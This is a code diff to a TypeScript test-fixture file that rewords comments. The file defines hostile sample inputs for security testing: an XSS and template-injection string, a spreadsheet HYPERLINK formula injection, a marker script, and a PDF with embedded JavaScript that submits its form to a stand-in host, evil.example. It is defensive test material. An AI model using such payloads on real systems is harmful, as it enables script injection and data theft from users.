@@ -1,13 +1,13 @@
 import { crc32, deflateSync } from 'node:zlib';
 
-/** Text that would run if it were ever taken for a page. */
+/** Text that would run if it were rendered as HTML. */
 export const MARKUP = `"><img src=x onerror="window.__hacked=1"><script>window.__hacked=2</script>{{7*7}}`;
 /** Text that a spreadsheet would take for a formula. */
 export const FORMULA = '=HYPERLINK("https://evil.example","pay")';
-/** A program that says so when it ran. */
+/** A script that leaves a trace when it runs. */
 export const SCRIPT = Buffer.from('globalThis.__hacked = 3; globalThis.window && alert(3);\n');
 
-/** A PDF of one page that runs JavaScript when it is opened, when it is shown, and when its only link is followed. */
+/** A PDF of one page with JavaScript that runs when it is opened, shown, or its only link is followed. */
 export function scriptedPdf(): Buffer {
   const action = '<< /S /JavaScript /JS (app.alert("hacked"); this.submitForm("https://evil.example/")) >>';
   const text = 'BT /F1 32 Tf 72 700 Td (Invoice 7) Tj ET';
@@ -35,7 +35,7 @@ function pdfOf(objects: readonly string[]): Buffer {
   return Buffer.from(`${body}${table}startxref\n${body.length}\n%%EOF\n`, 'latin1');
 }
 
-/** A picture of noise: about as many bytes as it has pixels three times. */
+/** A noise image, which does not compress: about three bytes for each pixel. */
 export function noisePng(width: number, height: number): Buffer {
   const rows = Buffer.alloc((width * 3 + 1) * height);
   let state = 1;
